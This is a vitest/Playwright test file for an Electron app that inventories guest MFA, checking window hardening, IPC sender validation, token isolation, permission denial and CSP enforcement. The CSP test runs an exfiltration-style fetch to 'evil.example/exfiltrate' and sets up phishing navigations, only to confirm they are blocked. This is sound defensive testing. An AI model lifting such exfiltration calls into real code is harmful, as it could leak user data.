/**
 * The Electron shell itself: the BUILT main bundle (out/main/index.js) boots under the Electron stand-in
 * (test/support/electron-stand-in/), its window is a real Chromium page that loads the built renderer and runs the
 * built preload (out/preload/preload.js), whose IPC reaches the shell's ipcMain handlers with a sender the shell
 * checks. The Microsoft hosts lead to the Entra emulator. Each test boots its own shell on a fresh data folder.
 */
import { existsSync, mkdirSync, mkdtempSync, readFileSync, readdirSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { pathToFileURL } from 'node:url';
import type * as ElectronApi from 'electron';
import type { Browser } from 'playwright-core';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { REQUEST_NAMES, requestChannel } from '../../shared/ipc/channels';
import { CONTENT_SECURITY_POLICY } from '../../main/window';
import { AppStore, LOCK_FILE } from '../../main/store';
import { DEFAULT_SETTINGS } from '../../shared/model';
import { launchChromium } from '../../tools/chromium';
import { headlessSignIn } from '../../tools/headless-sign-in';
import { startEmulator, type Emulator, type EmulatorOptions } from '../../tools/entra-emulator';
import {
  BUILT_PRELOAD,
  bootBuiltShell,
  StandInRuntime,
  type BootedShell,
  type StandInOptions,
  type StandInFrame,
  type StandInWebContents,
} from '../support/electron-stand-in';

const root = path.resolve(__dirname, '../..');
const screenshots = path.join(root, 'test-results/screenshots');
const rendererUrl = 'app://gmi/index.html';

/** Waits for a condition (the default second of expect.poll is too short on a loaded machine). */
const eventually = <T>(value: () => T | Promise<T>) => expect.poll(value, { timeout: 30_000 });

describe('the built Electron shell under the stand-in', () => {
  let browser: Browser;
  const cleanups: (() => Promise<void> | void)[] = [];

  beforeAll(async () => {
    browser = await launchChromium();
  });

  afterEach(async () => {
    for (const cleanup of cleanups.splice(0).reverse()) await cleanup();
  });

  afterAll(async () => {
    await browser?.close();
  });

  /** A fresh data folder (unless given), an emulator of seed-blog.json (unless refused) and the shell booted. */
  async function bootShell(
    options: {
      emulator?: boolean;
      onAnswer?: EmulatorOptions['onAnswer'];
      userDataDir?: string;
      standIn?: Partial<StandInOptions>;
    } = {},
  ): Promise<{ shell: BootedShell; emulator: Emulator | null; userDataDir: string }> {
    const userDataDir = options.userDataDir ?? mkdtempSync(path.join(tmpdir(), 'gmi-shell-'));
    if (!options.userDataDir) cleanups.push(() => rmSync(userDataDir, { recursive: true, force: true }));
    let emulator: Emulator | null = null;
    if (options.emulator !== false) {
      emulator = await startEmulator({
        scenario: path.join(root, 'test/scenarios/seed-blog.json'),
        autoComplete: true,
        ...(options.onAnswer ? { onAnswer: options.onAnswer } : {}),
      });
      const running = emulator;
      cleanups.push(() => running.close());
    }
    const signIn = emulator ? headlessSignIn(emulator) : null;
    const shell = await bootBuiltShell({
      browser,
      userDataDir,
      appPath: root,
      ...(emulator ? { network: { routes: emulator.routes, caPem: emulator.caPem } } : {}),
      openExternal: async (url) => {
        if (signIn && new URL(url).hostname === 'login.microsoftonline.com') await signIn(url);
      },
      ...options.standIn,
    });
    cleanups.push(() => shell.quit());
    return { shell, emulator, userDataDir };
  }

  /** The shell booted as above, with its main window's page once the renderer asks to sign in. */
  async function boot(options: Parameters<typeof bootShell>[0] = {}) {
    const booted = await bootShell(options);
    const page = await booted.shell.mainPage();
    await page.getByRole('button', { name: 'Sign in with your work account' }).waitFor();
    return { ...booted, page };
  }

  it('opens the hardened window on the real renderer, whose preload exposes exactly the channels main handles', async () => {
    const { shell, page } = await boot({ emulator: false });
    const { record, handlers } = shell.runtime;
    expect(record.singleInstanceLockRequests).toBe(1);
    expect(record.loaded[0]).toBe(rendererUrl);
    expect(record.windows[0]!.webPreferences).toMatchObject({
      preload: BUILT_PRELOAD,
      contextIsolation: true,
      sandbox: true,
      nodeIntegration: false,
      webviewTag: false,
    });
    const exposed = await page.evaluate('Object.keys(window.api)');
    const channels = REQUEST_NAMES.map(requestChannel).sort();
    expect(
      [...(exposed as string[])]
        .filter((k) => k !== 'onEvent')
        .map((k) => `gmi:${k}`)
        .sort(),
    ).toEqual(channels);
    expect([...handlers.keys()].sort()).toEqual(channels);
    // Through the preload: answers for the window; a bad argument is refused by the contract.
    expect(await page.evaluate('window.api.getAppInfo()')).toEqual({
      ok: true,
      value: { name: 'Guest MFA Inventory', version: '0.1.0', platform: process.platform },
    });
    expect(await page.evaluate('window.api.getState()')).toMatchObject({
      ok: true,
      value: { accounts: [], settings: DEFAULT_SETTINGS, notices: [] },
    });
    expect(await page.evaluate(`window.api.updateSettings({ concurrency: 'eight' })`)).toMatchObject({
      ok: false,
      error: { code: 'invalid-argument' },
    });
    // The same request from a page at another origin, or from a subframe of the app, is not served.
    const contents = shell.mainContents();
    const frame = (url: string, parent: StandInFrame | null): StandInFrame => ({
      url,
      origin: new URL(url).origin,
      name: '',
      parent,
      top: null,
      isDestroyed: () => false,
    });
    for (const senderFrame of [frame('https://evil.example/', null), frame(rendererUrl, frame(rendererUrl, null))]) {
      expect(await shell.runtime.invoke(contents, senderFrame, 'gmi:getAppInfo', [])).toEqual({
        value: { ok: false, error: { code: 'forbidden-sender', message: expect.any(String) } },
      });
    }
    // And from a real subframe of the window (no preload there; the stand-in's raw channel is, as a hijacked one).
    const fromSubframe = await page.evaluate(`(async () => {
      const frame = document.createElement('iframe');
      document.body.append(frame);
      const invoke = frame.contentWindow.__electronStandInInvoke;
      return { api: typeof frame.contentWindow.api, answer: invoke ? await invoke('gmi:getAppInfo', []) : 'no channel' };
    })()`);
    expect(fromSubframe).toMatchObject({
      api: 'undefined',
      answer: { value: { ok: false, error: { code: 'forbidden-sender' } } },
    });
    expect(record.pageErrors).toEqual([]);
  });

  it('signs in at the emulator, scans and opens a drawer through the real preload; no token crosses IPC', async () => {
    const issued: string[] = [];
    const { shell, page } = await boot({
      onAnswer: (record, body) => {
        if (record.endpoint !== 'token' || record.status !== 200) return;
        const answer = JSON.parse(body) as Record<string, unknown>;
        for (const key of ['access_token', 'refresh_token', 'id_token']) {
          if (typeof answer[key] === 'string') issued.push(answer[key]);
        }
      },
    });
    const { record } = shell.runtime;
    await page.getByRole('button', { name: 'Sign in with your work account' }).click();
    // The shell hands the sign-in page to the system browser (here: completed headlessly at the emulator).
    await expect
      .poll(() => record.externalOpens.some((u) => u.startsWith('https://login.microsoftonline.com/')))
      .toBe(true);
    const grid = page.getByRole('grid', { name: 'Organisations' });
    await grid.waitFor({ timeout: 30_000 });
    const row = page.getByRole('row', { name: /Northwind Traders/ });
    await eventually(() => row.innerText()).toContain('Needs its own MFA');
    await row.click();
    const drawer = page.getByRole('dialog', { name: 'Details of Northwind Traders' });
    await eventually(() => drawer.innerText()).toMatch(/Needs its own MFA/);
    mkdirSync(screenshots, { recursive: true });
    await page.screenshot({ path: path.join(screenshots, 'electron-shell-drawer.png') });
    // The renderer's state came as events over the preload's channel, from the trusted window only.
    expect(record.sent.filter((s) => s.channel === 'gmi:event').length).toBeGreaterThan(0);
    expect(record.ipc.map((c) => c.channel)).toEqual(expect.arrayContaining(['gmi:signIn', 'gmi:getState']));
    expect(record.ipc.every((c) => c.trusted)).toBe(true);
    expect(issued.length).toBeGreaterThan(0);
    // Every request went through the session's proxy resolution (the system proxy, PAC included, in the real app).
    expect(record.resolvedProxyUrls.some((u) => u.startsWith('https://login.microsoftonline.com/'))).toBe(true);
    // The checklist PDF: printed by a hidden window with JavaScript off, saved where the dialog chose, then closed.
    const saved = (await page.evaluate('window.api.exportChecklistPdf()')) as { ok: boolean; value: { path: string } };
    expect(saved).toMatchObject({ ok: true, value: { saved: true } });
    expect(readFileSync(saved.value.path).subarray(0, 5).toString()).toBe('%PDF-');
    const pdfWindow = record.windows.find((w) => w.webPreferences?.javascript === false);
    expect(pdfWindow).toMatchObject({ show: false, webPreferences: { sandbox: true, contextIsolation: true } });
    expect(shell.runtime.windows.filter((w) => !w.isDestroyed())).toHaveLength(1);
    const traffic = JSON.stringify([record.ipc, record.sent]);
    for (const token of issued) expect(traffic).not.toContain(token);
    expect(record.pageErrors).toEqual([]);
  });

  it('refuses another origin, new windows, webviews and permission requests; the CSP is in force', async () => {
    const { shell, page } = await boot({ emulator: false });
    const { record } = shell.runtime;
    const contents = shell.mainContents();
    const appUrl = contents.getURL();
    expect(appUrl).toBe(rendererUrl);

    // Navigation away from the app: refused before a request leaves; an allow-listed page goes to the system browser.
    // One at a time: a second navigation started while the first is pending would cancel the first in Chromium.
    await page.evaluate(`location.href = 'https://evil.example/phish'`);
    await eventually(() => record.navigations.length).toBe(1);
    await page.evaluate(`location.href = 'https://learn.microsoft.com/en-us/entra/'`);
    await eventually(() => record.navigations.length).toBe(2);
    expect(record.navigations).toEqual([
      { url: 'https://evil.example/phish', prevented: true },
      { url: 'https://learn.microsoft.com/en-us/entra/', prevented: true },
    ]);
    await eventually(() => record.externalOpens).toEqual(['https://learn.microsoft.com/en-us/entra/']);
    expect(contents.getURL()).toBe(appUrl);
    await page.getByRole('button', { name: 'Sign in with your work account' }).waitFor();

    // New windows: denied (closed before they load); an allow-listed link goes to the system browser instead.
    await page.evaluate(
      `window.open('https://evil.example/popup'); window.open('https://mysignins.microsoft.com/security-info')`,
    );
    await eventually(() => record.windowOpens.length).toBe(2);
    expect(record.windowOpens).toEqual([
      { url: 'https://evil.example/popup', action: 'deny' },
      { url: 'https://mysignins.microsoft.com/security-info', action: 'deny' },
    ]);
    await eventually(() => record.externalOpens).toContain('https://mysignins.microsoft.com/security-info');
    expect(record.externalOpens.some((u) => u.includes('evil.example'))).toBe(false);
    expect(record.windowOpenHandlers).toContain(contents.id);

    // A <webview> never attaches.
    const attach = {
      defaultPrevented: false,
      preventDefault() {
        this.defaultPrevented = true;
      },
    };
    contents.emit('will-attach-webview', attach, {}, {});
    expect(attach.defaultPrevented).toBe(true);

    // Permission requests and checks: all refused, the page sees "denied".
    expect(await page.evaluate('Notification.requestPermission()')).toBe('denied');
    expect(
      await page.evaluate(`navigator.mediaDevices.getUserMedia({ video: true }).then(() => 'granted', (e) => e.name)`),
    ).toBe('NotAllowedError');
    expect(
      await page.evaluate(
        `new Promise((resolve) => navigator.geolocation.getCurrentPosition(() => resolve('granted'), (e) => resolve(e.code)))`,
      ),
    ).toBe(1);
    expect(await page.evaluate(`navigator.permissions.query({ name: 'notifications' }).then((s) => s.state)`)).toBe(
      'denied',
    );
    expect(record.permissionRequests.map((r) => [r.permission, r.granted])).toEqual([
      ['notifications', false],
      ['media', false],
      ['geolocation', false],
    ]);
    expect(record.permissionChecks).toEqual([
      { permission: 'notifications', origin: expect.any(String), granted: false },
    ]);

    // The CSP: on the page's response (from the session), and in force for inline script, eval and remote fetches.
    const page0 = record.responses.find((r) => r.url === rendererUrl);
    expect(page0?.headers['content-security-policy']).toBe(CONTENT_SECURITY_POLICY);
    const verdicts = await page.evaluate(`(async () => {
      const violations = [];
      const reported = new Promise((resolve) =>
        document.addEventListener('securitypolicyviolation', (e) => {
          violations.push(e.effectiveDirective);
          if (['script-src-elem', 'script-src', 'connect-src'].every((d) => violations.includes(d))) resolve();
        }),
      );
      const script = document.createElement('script');
      script.textContent = 'window.__inlineRan = true';
      document.body.append(script);
      // eval from a task of the page (DevTools' own evaluation is exempt from the CSP, a later task is not).
      const evalResult = await new Promise((resolve) =>
        setTimeout(() => { try { resolve(eval('"ran"')); } catch (e) { resolve(e.name); } }),
      );
      const fetched = await fetch('https://evil.example/exfiltrate').then(() => 'loaded', (e) => e.name);
      await reported;
      return { inline: window.__inlineRan === true, evalResult, fetched, violations };
    })()`);
    expect(verdicts).toMatchObject({ inline: false, evalResult: 'EvalError', fetched: 'TypeError' });
    expect(record.requests.filter((r) => r.url.includes('evil.example'))).toEqual([]);
  });

  it('a second copy quits at once; starting it again brings the window forward; quitting shuts the services down', async () => {
    const { shell, userDataDir } = await boot({ emulator: false });
    const { record, app } = shell.runtime;
    expect(existsSync(path.join(userDataDir, LOCK_FILE))).toBe(true);
    app.emit('second-instance', {}, [], root);
    expect(record.windowCalls).toEqual(expect.arrayContaining(['show', 'focus']));
    await shell.quit();
    // The shell's before-quit handler shut the services down: the data folder is free again.
    expect(existsSync(path.join(userDataDir, LOCK_FILE))).toBe(false);
    // Closing the window kept its place and size for the next start (written atomically, in the background).
    const stateFile = path.join(userDataDir, 'window-state.json');
    await eventually(() => existsSync(stateFile)).toBe(true);
    expect(JSON.parse(readFileSync(stateFile, 'utf8'))).toMatchObject({
      width: 1200,
      height: 800,
      maximized: false,
    });

    const second = await bootShell({ emulator: false, standIn: { singleInstanceLock: false } });
    await second.shell.runtime.quitted;
    expect(second.shell.runtime.record.quitCalls).toBe(1);
    expect(second.shell.runtime.record.windows).toEqual([]);
  });

  it('with a re-check schedule, closing the window keeps the app behind its tray icon, which reopens and quits it', async () => {
    const { shell, page } = await boot({ emulator: false });
    const { record, trays, windows } = shell.runtime;
    expect(record.trays).toEqual([]);
    expect(await page.evaluate(`window.api.updateSettings({ recheck: 'daily' })`)).toMatchObject({ ok: true });
    await eventually(() => record.trays.length).toBe(1);
    expect(record.trays[0]).toMatchObject({ menu: ['Open Guest MFA Inventory', 'Quit'], destroyed: false });
    expect(record.trays[0]!.tooltip).toMatch(/Guest MFA Inventory/);

    windows[0]!.close();
    await expect
      .poll(() => record.notifications.map((n) => n.shown && n.title))
      .toEqual(['Guest MFA Inventory keeps checking in the background']);
    expect(record.quitCalls).toBe(0);

    trays[0]!.choose('Open Guest MFA Inventory');
    await eventually(() => windows.filter((w) => !w.isDestroyed()).length).toBe(1);
    const reopened = await windows.at(-1)!.webContents.ready;
    await reopened.getByRole('button', { name: 'Sign in with your work account' }).waitFor();

    trays[0]!.choose('Quit');
    await shell.runtime.quitted;
    expect(record.trays[0]!.destroyed).toBe(true);
  });

  it('says which program holds the data folder, and quits without opening a window', async () => {
    const userDataDir = mkdtempSync(path.join(tmpdir(), 'gmi-shell-'));
    cleanups.push(() => rmSync(userDataDir, { recursive: true, force: true }));
    // This test process holds the folder, as the headless runner would.
    const { store } = await AppStore.open({ dir: userDataDir, processName: 'node scan.ts (npm run scan)' });
    cleanups.push(() => store.close());
    const { shell } = await bootShell({ emulator: false, userDataDir });
    await shell.runtime.quitted;
    expect(shell.runtime.record.errorBoxes).toEqual([
      {
        title: 'Guest MFA Inventory cannot start',
        content: expect.stringContaining(
          `in use by another program: node scan.ts (npm run scan) (process ${process.pid}`,
        ),
      },
    ]);
    expect(shell.runtime.record.windows).toEqual([]);
  });

  it.runIf(process.platform === 'linux')(
    "refuses safeStorage's basic_text backend: the sign-in stays in memory and the window says why",
    async () => {
      const { page, userDataDir } = await boot({ standIn: { storageBackend: 'basic_text' } });
      const state = (await page.evaluate('window.api.getState()')) as { value: { notices: { title: string }[] } };
      expect(state.value.notices).toEqual([
        expect.objectContaining({ title: 'Sign-in is not remembered', message: expect.stringMatching(/keyring/) }),
      ]);
      await page.getByRole('button', { name: 'Sign in with your work account' }).click();
      await page.getByRole('grid', { name: 'Organisations' }).waitFor({ timeout: 30_000 });
      await eventually(() => page.locator('body').innerText()).toContain('Sign-in is not remembered');
      expect(readdirSync(userDataDir)).not.toContain('msal-cache.bin');
    },
  );

  it('the stand-in itself: a privileged scheme served by protocol.handle loads the renderer with its preload', async () => {
    // For a shell that serves the renderer from its own scheme instead of file://: the stand-in's side of that.
    const userDataDir = mkdtempSync(path.join(tmpdir(), 'gmi-shell-'));
    cleanups.push(() => rmSync(userDataDir, { recursive: true, force: true }));
    const runtime = new StandInRuntime({ browser, userDataDir, appPath: root });
    const electron = runtime.electron as unknown as typeof ElectronApi;
    electron.protocol.registerSchemesAsPrivileged([{ scheme: 'app', privileges: { standard: true, secure: true } }]);
    await runtime.ready;
    expect(() => electron.protocol.registerSchemesAsPrivileged([{ scheme: 'late' }])).toThrow(/before app is ready/);
    const rendererDir = path.join(root, 'out/renderer');
    electron.protocol.handle('app', (request) => {
      const { pathname } = new URL(request.url);
      return electron.net.fetch(pathToFileURL(path.join(rendererDir, pathname)).href);
    });
    const served: string[] = [];
    electron.ipcMain.handle('gmi:getAppInfo', (event) => {
      served.push(event.senderFrame!.url);
      return { ok: true, value: { name: 'stand-in', version: '0', platform: 'linux' } };
    });
    const window = new electron.BrowserWindow({ show: false, webPreferences: { preload: BUILT_PRELOAD } });
    cleanups.push(() => window.destroy());
    await window.loadURL('app://bundle/index.html');
    const page = await (window.webContents as unknown as StandInWebContents).ready;
    expect(window.webContents.getURL()).toBe('app://bundle/index.html');
    expect(await page.evaluate('window.api.getAppInfo()')).toMatchObject({ value: { name: 'stand-in' } });
    expect(served.length).toBeGreaterThan(0);
    expect(new Set(served)).toEqual(new Set(['app://bundle/index.html']));
    expect(runtime.record.requests.map((r) => r.url)).toEqual(
      expect.arrayContaining([
        'app://bundle/index.html',
        expect.stringMatching(/^app:\/\/bundle\/assets\/index-.*\.js$/),
      ]),
    );
    expect(runtime.record.privilegedSchemes).toEqual([{ scheme: 'app', privileges: { standard: true, secure: true } }]);
  });
});
